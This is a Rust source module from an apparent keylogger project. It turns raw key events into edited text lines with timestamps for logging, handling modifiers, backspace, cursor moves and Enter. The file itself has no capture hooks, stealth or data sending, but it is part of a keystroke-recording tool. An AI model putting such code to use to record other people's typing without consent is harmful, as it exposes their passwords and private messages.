//! Turns key events into edited lines.

use crate::key_code::KeyCode;
use crate::keyboard::KeyEvent;
use crate::keymap::{Action, Keymap};
use crate::line_buffer::{LineBuffer, TypedKey, DEFAULT_LINE_LIMIT};
use crate::modifiers::ModifierState;
use crate::KeyloggerResult;
use chrono::{DateTime, Local, Utc};

/// A completed line, ready to be logged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LogEntry {
    /// When the line was submitted.
    pub timestamp: DateTime<Local>,
    /// The keys of the line.
    pub keys: Vec<TypedKey>,
}

impl LogEntry {
    /// The characters of the line.
    pub fn text(&self) -> String {
        self.keys.iter().map(|k| k.chr).collect()
    }

    /// The keys of the line as packed `flags << 8 | code` words.
    pub fn key_words(&self) -> Vec<u16> {
        self.keys.iter().map(TypedKey::word).collect()
    }
}

/// What handling an event did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Transition {
    /// The modifier state was updated.
    Modifier,
    /// The line was edited (which may include a no-op edit, like backspace at the start).
    Edit,
    /// A line was completed.
    Submit(LogEntry),
    /// The event had no effect.
    Ignored,
    /// The key is not in the keymap.
    UnknownKey(KeyCode),
}

/// The editing state shared by all devices: the modifiers and the line being typed.
#[derive(Debug, Clone)]
pub struct Session {
    keymap: Keymap,
    modifiers: ModifierState,
    line: LineBuffer,
}

impl Session {
    /// Create a session whose lines hold at most `line_limit` keys.
    pub fn new(keymap: Keymap, line_limit: usize) -> Self {
        Self {
            keymap,
            modifiers: ModifierState::default(),
            line: LineBuffer::new(line_limit),
        }
    }

    pub fn modifiers(&self) -> &ModifierState {
        &self.modifiers
    }

    pub fn line(&self) -> &LineBuffer {
        &self.line
    }

    pub fn keymap(&self) -> &Keymap {
        &self.keymap
    }

    /// Apply `event` to the session.
    ///
    /// Shift and alt-gr follow both presses and releases; every other key only acts when
    /// pressed. The only error is
    /// [`BufferOverflow`](crate::KeyloggerError::BufferOverflow), in which case the session is
    /// left unchanged.
    pub fn handle(&mut self, event: &KeyEvent) -> KeyloggerResult<Transition> {
        let active = event.is_active();
        let action = self.keymap.resolve(event.code, &self.modifiers);

        let transition = match action {
            Action::Unknown => {
                tracing::debug!("no mapping for key {}", event.code);
                Transition::UnknownKey(event.code)
            }
            Action::ToggleShift | Action::ToggleAltGr => {
                self.modifiers.apply(action, active);
                Transition::Modifier
            }
            _ if !active => Transition::Ignored,
            Action::ToggleCapsLock => {
                self.modifiers.apply(action, active);
                tracing::trace!("caps lock: {}", self.modifiers.caps_lock);
                Transition::Modifier
            }
            Action::Char(chr) => {
                self.line.insert(TypedKey {
                    code: event.code,
                    chr,
                    modifiers: self.modifiers,
                })?;
                Transition::Edit
            }
            Action::Submit => match self.flush(event.ts) {
                Some(entry) => Transition::Submit(entry),
                None => Transition::Ignored,
            },
            Action::DeleteBack => {
                self.line.delete_back();
                Transition::Edit
            }
            Action::DeleteForward => {
                self.line.delete_forward();
                Transition::Edit
            }
            Action::MoveLeft => {
                self.line.move_left();
                Transition::Edit
            }
            Action::MoveRight => {
                self.line.move_right();
                Transition::Edit
            }
        };

        Ok(transition)
    }

    /// Submit the current line as if Enter had been pressed at `ts`.
    ///
    /// Returns `None` (and changes nothing) if the line is empty.
    pub fn flush(&mut self, ts: DateTime<Utc>) -> Option<LogEntry> {
        if self.line.is_empty() {
            return None;
        }

        Some(LogEntry {
            timestamp: ts.with_timezone(&Local),
            keys: self.line.take(),
        })
    }
}

impl Default for Session {
    fn default() -> Self {
        Self::new(Keymap::default(), DEFAULT_LINE_LIMIT)
    }
}
